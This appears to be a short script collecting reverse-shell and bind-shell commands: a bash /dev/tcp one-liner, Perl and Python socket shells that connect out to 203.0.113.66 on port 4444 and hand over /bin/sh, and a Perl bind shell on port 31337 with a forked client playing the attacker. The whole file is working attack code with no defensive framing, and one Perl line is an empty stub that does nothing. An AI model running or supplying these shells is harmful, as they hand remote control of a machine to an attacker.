# Shells whose ends are connections: of bash itself, of perl, behind a terminal, and one that waits for the
# attacker to come.
bash -c 'exec bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6);
    connect(S, sockaddr_in(4444, inet_aton("203.0.113.66"))) or die;
    open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec "/bin/sh", "-i"'
# A terminal's other end is in the program that holds the connection.
perl -e 'use IO::Socket::INET; use IO::Pty;
    exit 0' 2>/dev/null
python3 - <<'PY'
import os, pty, select, socket
connection = socket.create_connection(("203.0.113.66", 4444))
pid, terminal = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh"])
while True:
    ready, _, _ = select.select([connection, terminal], [], [])
    try:
        data = os.read(ready[0].fileno() if ready[0] is connection else ready[0], 4096)
    except OSError:
        break
    if not data:
        break
    os.write(terminal if ready[0] is connection else connection.fileno(), data)
PY
# The attacker's visit is from another machine: it is played in the background.
perl -e 'use IO::Socket::INET;
    my $server = IO::Socket::INET->new(LocalAddr => "192.0.2.10", LocalPort => 31337, Listen => 1) or die;
    my $visit = fork // die;
    if (!$visit) {
        my $client = IO::Socket::INET->new(PeerAddr => "192.0.2.10", PeerPort => 31337) or die;
        print $client "id\nexit\n";
        while (<$client>) { }
        exit 0;
    }
    my $client = $server->accept;
    open(STDIN, "<&", $client); open(STDOUT, ">&", $client); open(STDERR, ">&", $client);
    exec "/bin/bash"'
